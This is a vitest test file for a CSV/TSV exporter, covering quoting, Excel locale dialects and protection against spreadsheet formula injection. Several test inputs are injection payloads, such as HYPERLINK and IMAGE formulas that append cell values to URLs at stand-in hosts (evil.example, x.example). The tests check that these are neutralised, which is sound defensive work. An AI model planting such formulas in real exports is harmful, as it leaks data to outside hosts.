import { describe, expect, it } from 'vitest';
import { toCsv, toTsv } from '../../src/core/data/csv.ts';
import { excelCsv, STANDARD_CSV } from '../../src/core/data/csv-dialect.ts';
import type { Cell } from '../../src/core/data/engine.ts';

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${text[i]} at ${i}`);
        value += text[i++];
      }
    }
    record.push(value);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}`);
  }
  if (record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

describe('toCsv', () => {
  it('writes a header and rows with CRLF line ends', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          [1, 'x'],
          [2.5, 'y'],
        ],
      ),
    ).toBe('a,b\r\n1,x\r\n2.5,y\r\n');
  });

  it('writes null as an empty field and booleans as words', () => {
    expect(toCsv(['a', 'b', 'c'], [[null, true, false]])).toBe('a,b,c\r\n,true,false\r\n');
  });

  it('quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
    expect(toCsv(['h'], [['a,b'], ['say "hi"'], ['line\nbreak'], ['cr\rhere'], ['plain']])).toBe(
      'h\r\n"a,b"\r\n"say ""hi"""\r\n"line\nbreak"\r\n"cr\rhere"\r\nplain\r\n',
    );
  });

  it('writes just the header for no rows', () => {
    expect(toCsv(['only'], [])).toBe('only\r\n');
  });

  it('round-trips a tricky table', () => {
    const headers = ['id', 'name, full', 'quote "q"', 'notes', 'Größe', 'empty'];
    const rows: Cell[][] = [
      [1, 'Ann', 'a "b" c', 'two\r\nlines', 'München', ''],
      [2, ' spaced ', '""', 'trailing,', '日本語 ✓', null],
      [-3.25, 'x', ',', '\n', 'emoji 🎉', 'end'],
      [1e21, 'tab\tinside', 'semi;colon', "'quoted'", 'a\u00a0b', 'z'],
    ];
    const parsed = parseCsv(toCsv(headers, rows));
    expect(parsed[0]).toEqual(headers);
    expect(parsed.slice(1)).toEqual(rows.map((r) => r.map((c) => (c === null ? '' : String(c)))));
  });

  it('guards text that a spreadsheet would run as a formula', () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\tTAB',
      '\rCR',
      '=1,2',
    ];
    const parsed = parseCsv(
      toCsv(
        ['v'],
        dangerous.map((d) => [d]),
      ),
    );
    expect(parsed.slice(1).map((r) => r[0])).toEqual(dangerous.map((d) => `'${d}`));
  });

  it('guards a header like a cell', () => {
    expect(toCsv(['=cmd'], [])).toBe("'=cmd\r\n");
  });

  it('leaves numbers alone, negative ones included, and text that only contains the signs', () => {
    expect(
      toCsv(
        ['n', 't'],
        [
          [-5, 'a=b'],
          [0, 'x-y'],
        ],
      ),
    ).toBe('n,t\r\n-5,a=b\r\n0,x-y\r\n');
  });
});

describe('CSV for Excel in the person’s locale', () => {
  it('takes the decimal mark, the list separator and the short date order from the locale', () => {
    const pick = (l: string) => {
      const d = excelCsv(l);
      return [d.separator, d.decimal, d.dateFormat, d.bom];
    };
    expect(pick('fr-FR')).toEqual([';', ',', '%d/%m/%Y', true]);
    expect(pick('de-DE')).toEqual([';', ',', '%d.%m.%Y', true]);
    expect(pick('en-US')).toEqual([',', '.', '%m/%d/%Y', true]);
    expect(pick('en-GB')).toEqual([',', '.', '%d/%m/%Y', true]);
    expect(pick('nl-NL')).toEqual([';', ',', '%d-%m-%Y', true]);
    expect(STANDARD_CSV).toMatchObject({ separator: ',', decimal: '.', bom: false });
  });

  it('writes a byte-order mark, the locale’s separator and decimals, dates its way, text guarded', () => {
    const text = toCsv(
      [
        { name: 'Libellé', type: 'VARCHAR' },
        { name: 'Montant', type: 'DECIMAL(9,2)' },
        { name: 'Date', type: 'DATE' },
        { name: 'Id', type: 'BIGINT' },
      ],
      [
        ['Café; crème', 1234.5, '2024-03-25', '-9007199254740993'],
        ['=HYPERLINK("x")', -3, null, null],
      ],
      excelCsv('fr-FR'),
    );
    expect(text).toBe(
      '\ufeffLibellé;Montant;Date;Id\r\n"Café; crème";1234,5;25/03/2024;-9007199254740993\r\n"\'=HYPERLINK(""x"")";-3;;\r\n',
    );
    // The standard file is unchanged: commas, points, ISO dates, no mark.
    expect(toCsv(['a', 'b'], [['x;y', 1.5]])).toBe('a,b\r\nx;y,1.5\r\n');
  });
});

describe('text that leaves for a spreadsheet is guarded everywhere (issue 46)', () => {
  it('guards a pasted table’s formulas and the numbers no sheet reads, as the CSV does', () => {
    const rows: Cell[][] = [
      ['=IMAGE("https://x.example/?d="&B2)', 1.5],
      ['plain', -Infinity],
      ['\t@cmd', Number.NaN],
    ];
    expect(toTsv(['note', 'n'], rows)).toBe(
      "note\tn\n'=IMAGE(\"https://x.example/?d=\"&B2)\t1.5\nplain\t'-Infinity\n' @cmd\tNaN\n",
    );
    expect(toCsv(['n'], [[-Infinity], [Number.NaN], [2]])).toBe("n\r\n'-Infinity\r\nNaN\r\n2\r\n");
  });

  it('leaves a number written as text a number, in the copy and the file', () => {
    // An exact BIGINT or DECIMAL comes as text; `-2+3` and `-1-1` are formulas, not numbers.
    const rows: Cell[][] = [['-9007199254740993'], ['+1.5e3'], ['-.5'], ['-2+3'], ['-1-1']];
    expect(toTsv(['n'], rows)).toBe("n\n-9007199254740993\n+1.5e3\n-.5\n'-2+3\n'-1-1\n");
    expect(toCsv([{ name: 'n', type: 'VARCHAR' }], rows)).toBe(
      "n\r\n-9007199254740993\r\n+1.5e3\r\n-.5\r\n'-2+3\r\n'-1-1\r\n",
    );
  });
});

describe('a list column is text, whatever its items', () => {
  it('quotes a list of numbers and leaves a list of dates as DuckDB wrote it', () => {
    const text = toCsv(
      [
        { name: 'ids', type: 'BIGINT[]' },
        { name: 'days', type: 'DATE[]' },
      ],
      [['[1, 2]', '[2024-03-25, 2024-03-26]']],
      excelCsv('en-US'),
    );
    expect(text).toBe('\ufeffids,days\r\n"[1, 2]","[2024-03-25, 2024-03-26]"\r\n');
  });
});
